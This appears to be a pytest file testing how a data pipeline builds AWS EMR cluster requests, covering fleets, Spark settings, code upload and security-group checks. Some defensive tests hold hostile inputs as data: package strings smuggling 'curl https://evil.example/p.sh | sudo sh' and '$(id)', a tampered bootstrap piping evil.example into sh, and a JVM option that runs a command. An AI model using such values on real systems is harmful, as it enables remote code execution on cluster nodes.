"""What the EMR resource asks AWS for, read from the requests botocore actually sent to moto."""

from __future__ import annotations

import shlex

import boto3
import pytest
from packaging.requirements import Requirement

from spark_scripts import spark_packages
from spark_scripts.job_contract import SparkJob, TitleOptions
from wordcloud_pipeline.aws.emr import cluster as cluster_module
from wordcloud_pipeline.aws.emr import job_flow, steps
from wordcloud_pipeline.aws.emr.config import (
    BOOTSTRAP_PACKAGES,
    ClusterConfig,
    EmrConfigError,
    FleetConfig,
    SparkSettings,
    bootstrap_requirements,
    spark_nlp_coordinate,
)
from wordcloud_pipeline.aws.emr.job_flow import EMR_MANAGED_POLICY_TAG as EMR_TAG
from wordcloud_pipeline.aws.emr.job_flow import bootstrap_script
from wordcloud_pipeline_tests.aws.conftest import (
    emr_test_launcher,
    emr_test_resource,
    provision_security_groups,
)

RUN_ID = "0f1e2d3c-aaaa-bbbb-cccc-000000000001"


def tagged_group(vpc: str, name: str, tags: dict[str, str] = EMR_TAG) -> str:
    """A hand-made security group in ``vpc`` (tagged for the EMR policy unless ``tags`` says otherwise)."""
    return boto3.client("ec2").create_security_group(
        GroupName=name,
        Description=name,
        VpcId=vpc,
        TagSpecifications=[
            {
                "ResourceType": "security-group",
                "Tags": [{"Key": k, "Value": v} for k, v in tags.items()],
            }
        ],
    )["GroupId"]


def tagged_private_subnets(count: int = 2) -> list[str]:
    """Subnets of a new VPC without an internet route, tagged as AmazonEMRServicePolicy_v2 requires,
    with three tagged hand-made groups in it (named master / worker / service)."""
    ec2 = boto3.client("ec2")
    vpc = ec2.create_vpc(CidrBlock="10.20.0.0/16")["Vpc"]["VpcId"]
    for role in ("master", "worker", "service"):
        tagged_group(vpc, role)
    subnets = [
        ec2.create_subnet(VpcId=vpc, CidrBlock=f"10.20.{i}.0/24")["Subnet"]["SubnetId"]
        for i in range(count)
    ]
    ec2.create_tags(Resources=subnets, Tags=[{"Key": k, "Value": v} for k, v in EMR_TAG.items()])
    return subnets


def group_id(name: str) -> str:
    (group,) = boto3.client("ec2").describe_security_groups(
        Filters=[{"Name": "group-name", "Values": [name]}]
    )["SecurityGroups"]
    return group["GroupId"]


def spot_task_config(subnets: list[str]) -> ClusterConfig:
    return ClusterConfig(
        task_fleet=FleetConfig(
            instance_types={"m5.2xlarge": 1, "m5.4xlarge": 2, "r5.2xlarge": 1}, spot_units=8
        ),
        subnet_ids=subnets,
        master_security_group=group_id("master"),
        worker_security_group=group_id("worker"),
        service_access_security_group=group_id("service"),
        idle_timeout_minutes=20,
        tags={"team": "books"},
    )


def test_run_job_flow_request_as_sent(sent, bucket):
    subnets = tagged_private_subnets()
    resource = emr_test_resource(cluster=spot_task_config(subnets))
    logged: list[str] = []
    cluster = resource.lifecycle().ensure_cluster(
        boto3.client("emr"), RUN_ID, f"s3://{bucket}/code/v1/bootstrap.sh", logged.append
    )

    (request,) = sent.by_operation["RunJobFlow"]
    fleets = {f["InstanceFleetType"]: f for f in request["Instances"]["InstanceFleets"]}
    assert set(fleets) == {"MASTER", "CORE", "TASK"}
    assert (fleets["MASTER"]["TargetOnDemandCapacity"], fleets["MASTER"]["TargetSpotCapacity"]) == (
        1,
        0,
    )
    # Core on-demand (it holds HDFS and YARN state), spot only on the task fleet.
    assert (fleets["CORE"]["TargetOnDemandCapacity"], fleets["CORE"]["TargetSpotCapacity"]) == (
        2,
        0,
    )
    assert (fleets["TASK"]["TargetOnDemandCapacity"], fleets["TASK"]["TargetSpotCapacity"]) == (
        0,
        8,
    )
    weights = {
        c["InstanceType"]: c["WeightedCapacity"] for c in fleets["CORE"]["InstanceTypeConfigs"]
    }
    assert weights == {"m5.2xlarge": 1, "m5a.2xlarge": 1, "m6i.2xlarge": 1, "m5.4xlarge": 2}
    spot = fleets["TASK"]["LaunchSpecifications"]["SpotSpecification"]
    assert spot["AllocationStrategy"] == "price-capacity-optimized"
    assert spot["TimeoutAction"] == "SWITCH_TO_ON_DEMAND"
    assert "SpotSpecification" not in fleets["MASTER"]["LaunchSpecifications"]
    assert "SpotSpecification" not in fleets["CORE"]["LaunchSpecifications"]
    for fleet in fleets.values():
        on_demand = fleet["LaunchSpecifications"]["OnDemandSpecification"]
        assert on_demand["AllocationStrategy"] == "lowest-price"
    ebs = fleets["CORE"]["InstanceTypeConfigs"][0]["EbsConfiguration"]["EbsBlockDeviceConfigs"][0]
    assert ebs["VolumeSpecification"] == {"VolumeType": "gp3", "SizeInGB": 64}

    assert request["ReleaseLabel"] == "emr-7.12.0"
    assert request["AutoTerminationPolicy"] == {"IdleTimeout": 20 * 60}
    assert request["Instances"]["KeepJobFlowAliveWhenNoSteps"] is True
    assert request["Instances"]["Ec2SubnetIds"] == subnets
    assert request["Instances"]["EmrManagedMasterSecurityGroup"] == group_id("master")
    # Private subnets (no route to an internet gateway): EMR needs the service-access group.
    assert request["Instances"]["ServiceAccessSecurityGroup"] == group_id("service")
    assert request["LogUri"] == f"s3://{bucket}/wordcloud/logs/emr/"
    assert request["BootstrapActions"] == [
        {
            "Name": "install-python-packages",
            "ScriptBootstrapAction": {"Path": f"s3://{bucket}/code/v1/bootstrap.sh", "Args": []},
        }
    ]
    configurations = {c["Classification"]: c for c in request["Configurations"]}
    defaults = configurations["spark-defaults"]["Properties"]
    assert defaults["spark.executor.memory"] == "9216m"
    assert defaults["spark.executor.memoryOverhead"] == "921m"
    assert defaults["spark.executor.cores"] == "4"
    export = configurations["spark-env"]["Configurations"][0]
    assert export["Properties"]["PYSPARK_PYTHON"] == "/usr/bin/python3.11"
    assert "yarn-site" not in configurations  # EMR's per-type defaults apply
    assert configurations["delta-defaults"]["Properties"] == {"delta.enabled": "true"}
    tags = {t["Key"]: t["Value"] for t in request["Tags"]}
    assert tags["dagster/run_id"] == RUN_ID
    assert tags["wordcloud:project"] == "wordcloud_pipeline"
    assert tags["wordcloud:cluster-mode"] == "per_run"
    assert tags["team"] == "books"
    assert tags["for-use-with-amazon-emr-managed-policies"] == "true"

    # moto accepted it and the tags make it findable by any process of the run.
    described = boto3.client("emr").describe_cluster(ClusterId=cluster.id)["Cluster"]
    assert {t["Key"]: t["Value"] for t in described["Tags"]}["dagster/run_id"] == RUN_ID
    assert any(cluster.id in line for line in logged)


def test_yarn_override_is_sent_as_yarn_site(sent, bucket):
    config = ClusterConfig(spark=SparkSettings(yarn_node_memory_mb=28_000))
    emr_test_resource(cluster=config).lifecycle().ensure_cluster(
        boto3.client("emr"), RUN_ID, "s3://b/boot.sh", lambda _: None
    )
    (request,) = sent.by_operation["RunJobFlow"]
    yarn = next(c for c in request["Configurations"] if c["Classification"] == "yarn-site")
    assert yarn["Properties"]["yarn.nodemanager.resource.memory-mb"] == "28000"


def test_executor_that_does_not_fit_fails_before_any_aws_call(sent, bucket):
    too_big = ClusterConfig(spark=SparkSettings(executor_memory_mb=23_000))
    launcher = emr_test_launcher(emr_test_resource(cluster=too_big))
    job = SparkJob("count_words", "s3://b/i", "s3://b/o", (2004,))

    before = sent.total()
    with pytest.raises(EmrConfigError) as error:
        launcher.run(None, job)  # the check runs before the context or any client is used

    message = str(error.value)
    assert "23000 MB" in message and "2300 MB" in message and "25300 MB" in message
    assert "yarn.nodemanager.resource.memory-mb = 24576 MB on m5.2xlarge" in message
    assert sent.total() == before
    assert boto3.client("emr").list_clusters()["Clusters"] == []


@pytest.mark.parametrize(
    ("config", "expected"),
    [
        (ClusterConfig(spark=SparkSettings(executor_cores=12)), "exceeds the 8 vCPUs"),
        (
            ClusterConfig(spark=SparkSettings(yarn_node_memory_mb=31_000)),
            "less than 2048 MB for the OS",
        ),
        (
            ClusterConfig(
                master_fleet=FleetConfig(instance_types={"m5.xlarge": 1}, on_demand_units=2)
            ),
            "exactly one instance",
        ),
        (
            ClusterConfig(
                task_fleet=FleetConfig(instance_types={"m5.2xlarge": 1}, on_demand_units=1)
            ),
            "task fleet is spot only",
        ),
        (
            ClusterConfig(core_fleet=FleetConfig(instance_types={"x9.huge": 1}, spot_units=2)),
            "not in the catalog",
        ),
        (ClusterConfig(release_label="emr-9.9.9"), "set spark_version"),
    ],
)
def test_invalid_settings_are_named(config, expected):
    with pytest.raises(EmrConfigError, match=expected):
        emr_test_resource(cluster=config).validate()


def test_local_locations_are_refused_in_emr_mode(bucket):
    job = SparkJob("count_words", "/tmp/in", "s3://b/o", (2004,))
    with pytest.raises(ValueError, match="--input /tmp/in is not an s3:// location"):
        emr_test_launcher().run(None, job)


def test_spark_nlp_coordinate_is_the_local_one_and_refuses_spark_4():
    assert spark_nlp_coordinate(ClusterConfig()) == "com.johnsnowlabs.nlp:spark-nlp_2.12:5.5.3"
    assert spark_nlp_coordinate(ClusterConfig()) == spark_packages.local_spark_nlp()
    spark4 = ClusterConfig(release_label="emr-spark-8.0.0", spark_version="4.0.2")
    with pytest.raises(ValueError, match=r"supports Spark 3\.x .* not Spark 4\.0\.2"):
        spark_nlp_coordinate(spark4)


def test_code_is_content_addressed_and_uploaded_once(sent, bucket):
    s3 = boto3.client("s3")
    root = f"s3://{bucket}/wordcloud/code"
    first = steps.ship_code(s3, root, bootstrap_script(["spark-nlp==7.0.0"]), lambda _: None)
    puts_after_first = sent.count("PutObject")
    again = steps.ship_code(s3, root, bootstrap_script(["spark-nlp==7.0.0"]), lambda _: None)
    other = steps.ship_code(s3, root, bootstrap_script(["spark-nlp==6.0.0"]), lambda _: None)

    assert again == first
    assert puts_after_first >= 3
    # The same code uploads nothing; another bootstrap is another version, uploaded under its own key.
    assert sent.count("PutObject") == 2 * puts_after_first
    assert other.version != first.version
    assert first.py_files_uri == f"{root}/{first.version}/spark_scripts.zip"
    body = s3.get_object(Bucket=bucket, Key=f"wordcloud/code/{first.version}/bootstrap.sh")["Body"]
    assert "pip install --quiet spark-nlp==7.0.0" in body.read().decode()
    assert steps.package_scripts() == steps.package_scripts()  # byte-identical zips


def test_spark_submit_args_attach_spark_nlp_only_for_the_sparknlp_backend():
    code = steps.ShippedCode(
        "v1", "s3://b/c/v1/spark_scripts.zip", "s3://b/c/v1/boot.sh", "s3://b/c/v1"
    )
    nlp = SparkJob(
        "preprocess_titles", "s3://b/r", "s3://b/t", (2004,), TitleOptions(backend="sparknlp")
    )
    pipes = {"--dagster-pipes-context": "eJyrVg", "--dagster-pipes-messages": "eJyrVh"}
    args = steps.spark_submit_args(
        nlp, code, pipes=pipes, packages=[spark_nlp_coordinate(ClusterConfig())]
    )
    assert args == [
        "spark-submit",
        "--deploy-mode",
        "client",
        "--py-files",
        "s3://b/c/v1/spark_scripts.zip",
        "--packages",
        "com.johnsnowlabs.nlp:spark-nlp_2.12:5.5.3",
        "s3://b/c/v1/spark_scripts/preprocess_titles.py",
        *nlp.argv(),
        *("--dagster-pipes-context", "eJyrVg", "--dagster-pipes-messages", "eJyrVh"),
    ]
    # The script reads back the job it was given: the launcher never re-parses argv itself.
    assert SparkJob.from_argv("preprocess_titles", args[args.index("--input") :]) == nlp
    assert steps.redact_pipes_args(args)[-3:] == ["…", "--dagster-pipes-messages", "…"]


# -- issue 13 / issue 10 item 5 ---------------------------------------------------------------------
def test_bootstrap_installs_what_the_scripts_import_on_the_nodes():
    script = bootstrap_script(bootstrap_requirements(ClusterConfig()))
    pip_line = next(line for line in script.splitlines() if "pip install" in line)
    installed = {Requirement(arg).name for arg in shlex.split(pip_line)[6:]}
    # pyspark.ml imports numpy; the sparknlp backend imports sparknlp. pyspark itself is EMR's.
    assert {"numpy", "spark-nlp"} <= installed
    # The scripts report through Dagster Pipes: its S3 writer needs boto3 on the nodes.
    assert {"dagster-pipes", "boto3"} <= installed and "dagster" not in installed
    assert installed == {Requirement(p).name for p in BOOTSTRAP_PACKAGES}
    assert "deltalake" not in installed and "pyarrow" not in installed


@pytest.mark.parametrize(
    "package",
    [
        "x; curl https://evil.example/p.sh | sudo sh",
        "numpy $(id)",
        "--index-url=http://x y",
        "a @ https://x/a.whl",
    ],
)
def test_python_packages_must_be_plain_requirements(package):
    with pytest.raises(Exception, match="python_packages entry"):
        ClusterConfig(python_packages=[package])
    with pytest.raises(EmrConfigError):
        bootstrap_script([package])


def test_python_packages_are_shell_quoted_in_the_bootstrap(tmp_path):
    script = bootstrap_script(["langdetect==1.0.9", "pandas>=2,<3"])
    pip_line = next(line for line in script.splitlines() if "pip install" in line)
    assert shlex.split(pip_line)[6:] == ["langdetect==1.0.9", "pandas<3,>=2"]
    assert "'pandas<3,>=2'" in pip_line  # '<' and '>' would be redirections unquoted


def test_a_tampered_bootstrap_in_s3_is_replaced(sent, bucket):
    s3 = boto3.client("s3")
    root = f"s3://{bucket}/wordcloud/code"
    bootstrap = bootstrap_script(list(BOOTSTRAP_PACKAGES))
    code = steps.ship_code(s3, root, bootstrap, lambda _: None)
    key = f"wordcloud/code/{code.version}/bootstrap.sh"
    s3.put_object(Bucket=bucket, Key=key, Body=b"#!/bin/bash\ncurl https://evil.example | sh\n")
    logged: list[str] = []

    again = steps.ship_code(s3, root, bootstrap, logged.append)

    assert again == code
    assert s3.get_object(Bucket=bucket, Key=key)["Body"].read() == bootstrap.encode()
    assert "replaced bootstrap.sh" in logged[0]
    puts = sent.count("PutObject")
    steps.ship_code(s3, root, bootstrap, lambda _: None)
    assert sent.count("PutObject") == puts  # intact objects are not uploaded again


def test_a_task_fleet_with_many_types_carries_allocation_strategies(sent, bucket):
    many = {t: 1 for t in ("m5.2xlarge", "m5a.2xlarge", "m6i.2xlarge", "m5d.2xlarge", "m4.2xlarge")}
    many["r5.2xlarge"] = 1
    config = ClusterConfig(task_fleet=FleetConfig(instance_types=many))  # 0 units, 6 types
    emr_test_resource(cluster=config).validate()
    emr_test_resource(cluster=config).lifecycle().ensure_cluster(
        boto3.client("emr"), RUN_ID, "s3://b/boot.sh", lambda _: None
    )
    (request,) = sent.by_operation["RunJobFlow"]
    task = next(
        f for f in request["Instances"]["InstanceFleets"] if f["InstanceFleetType"] == "TASK"
    )
    assert len(task["InstanceTypeConfigs"]) == 6
    assert task["LaunchSpecifications"]["SpotSpecification"]["AllocationStrategy"]
    assert task["LaunchSpecifications"]["OnDemandSpecification"]["AllocationStrategy"]
    # EMR's rule, applied to a request without strategies:
    bare = {k: v for k, v in task.items() if k != "LaunchSpecifications"}
    with pytest.raises(EmrConfigError, match="at most 5 without on-demand and spot allocation"):
        job_flow.check_fleet_request(bare)


def test_the_cluster_returned_by_run_job_flow_is_used_before_list_clusters_shows_it(
    bucket, monkeypatch
):
    emr = boto3.client("emr")
    # ListClusters is eventually consistent: right after RunJobFlow it may not list the new cluster.
    monkeypatch.setattr(cluster_module, "run_clusters", lambda client, run_id: [])
    cluster = (
        emr_test_resource()
        .lifecycle()
        .ensure_cluster(emr, RUN_ID, "s3://b/boot.sh", lambda _: None)
    )
    assert emr.describe_cluster(ClusterId=cluster.id)["Cluster"]["Id"] == cluster.id


def test_public_subnets_get_no_service_access_group(sent, bucket):
    ec2 = boto3.client("ec2")
    vpc = ec2.create_vpc(CidrBlock="10.30.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.30.1.0/24")["Subnet"]["SubnetId"]
    ec2.create_tags(Resources=[subnet], Tags=[{"Key": k, "Value": v} for k, v in EMR_TAG.items()])
    gateway = ec2.create_internet_gateway()["InternetGateway"]["InternetGatewayId"]
    ec2.attach_internet_gateway(InternetGatewayId=gateway, VpcId=vpc)
    table = ec2.create_route_table(VpcId=vpc)["RouteTable"]["RouteTableId"]
    ec2.create_route(RouteTableId=table, DestinationCidrBlock="0.0.0.0/0", GatewayId=gateway)
    ec2.associate_route_table(RouteTableId=table, SubnetId=subnet)
    groups = {
        "master_security_group": tagged_group(vpc, "m"),
        "worker_security_group": tagged_group(vpc, "w"),
    }

    emr_test_resource(
        cluster=ClusterConfig(subnet_ids=[subnet], **groups)
    ).lifecycle().ensure_cluster(boto3.client("emr"), RUN_ID, "s3://b/boot.sh", lambda _: None)
    (request,) = sent.by_operation["RunJobFlow"]
    assert "ServiceAccessSecurityGroup" not in request["Instances"]
    assert request["Instances"]["EmrManagedMasterSecurityGroup"] == groups["master_security_group"]

    service = tagged_group(vpc, "s")
    explicit = ClusterConfig(subnet_ids=[subnet], service_access_security_group=service, **groups)
    with pytest.raises(EmrConfigError, match="public subnets"):
        emr_test_resource(cluster=explicit).lifecycle().cluster_request(RUN_ID, "s3://b/boot.sh")


def test_untagged_subnets_are_refused_before_a_cluster_is_created(sent, bucket):
    ec2 = boto3.client("ec2")
    vpc = ec2.create_vpc(CidrBlock="10.40.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.40.1.0/24")["Subnet"]["SubnetId"]
    resource = emr_test_resource(cluster=ClusterConfig(subnet_ids=[subnet]))
    with pytest.raises(EmrConfigError, match="for-use-with-amazon-emr-managed-policies=true"):
        resource.lifecycle().ensure_cluster(
            boto3.client("emr"), RUN_ID, "s3://b/boot.sh", lambda _: None
        )
    assert sent.count("RunJobFlow") == 0


def test_every_step_carries_delta_settings_and_no_delta_package():
    launcher = emr_test_launcher(spark_conf={"spark.sql.shuffle.partitions": "64"})
    code = steps.ShippedCode("v1", "s3://b/c/v1/z.zip", "s3://b/c/v1/boot.sh", "s3://b/c/v1")
    job = SparkJob("count_words", "s3://b/i", "s3://b/o", (2004,))
    args = steps.spark_submit_args(job, code, spark_conf=launcher.step_conf())
    confs = {args[i + 1] for i, a in enumerate(args) if a == "--conf"}
    for key, value in spark_packages.DELTA_CONF.items():
        assert f"{key}={value}" in confs
    assert "spark.sql.shuffle.partitions=64" in confs
    assert "--packages" not in args  # EMR 7 has Delta's jar (delta-defaults), no Maven download


def test_spark_conf_that_runs_a_command_is_refused_at_config_time():
    attempt = {"spark.driver.extraJavaOptions": '-XX:OnOutOfMemoryError="touch /tmp/pwned"'}
    with pytest.raises(
        Exception, match="extraJavaOptions is refused: JVM options can run commands"
    ):
        emr_test_launcher(spark_conf=attempt)


def test_a_default_vpc_cluster_gets_the_groups_up_made(sent, bucket):
    """Without subnets EMR would fall back to its own default groups, which the v2 policy refuses
    when they predate it: the request always names the project's tagged groups."""
    groups = provision_security_groups()
    emr_test_resource().lifecycle().ensure_cluster(
        boto3.client("emr"), RUN_ID, "s3://b/boot.sh", lambda _: None
    )
    (request,) = sent.by_operation["RunJobFlow"]
    assert request["Instances"]["EmrManagedMasterSecurityGroup"] == groups["master"]
    assert request["Instances"]["EmrManagedSlaveSecurityGroup"] == groups["worker"]
    assert "ServiceAccessSecurityGroup" not in request["Instances"]


def test_a_cluster_without_the_projects_groups_is_refused(sent, fake_aws):
    boto3.client("s3").create_bucket(Bucket="wordcloud-test-project")
    with pytest.raises(
        EmrConfigError, match=r"no master/worker security group .*wordcloud-infra up"
    ):
        emr_test_resource().lifecycle().ensure_cluster(
            boto3.client("emr"), RUN_ID, "s3://b/boot.sh", lambda _: None
        )
    assert sent.count("RunJobFlow") == 0


def test_hand_configured_groups_without_the_emr_tag_are_refused_by_name(sent, bucket):
    ec2 = boto3.client("ec2")
    vpc = ec2.describe_vpcs(Filters=[{"Name": "is-default", "Values": ["true"]}])["Vpcs"][0][
        "VpcId"
    ]
    untagged = tagged_group(vpc, "old-emr-master", tags={"team": "books"})
    tagged = tagged_group(vpc, "new-emr-worker")
    config = ClusterConfig(master_security_group=untagged, worker_security_group=tagged)
    with pytest.raises(EmrConfigError, match=rf"security group\(s\) {untagged} lack the tag"):
        emr_test_resource(cluster=config).lifecycle().ensure_cluster(
            boto3.client("emr"), RUN_ID, "s3://b/boot.sh", lambda _: None
        )
    assert sent.count("RunJobFlow") == 0
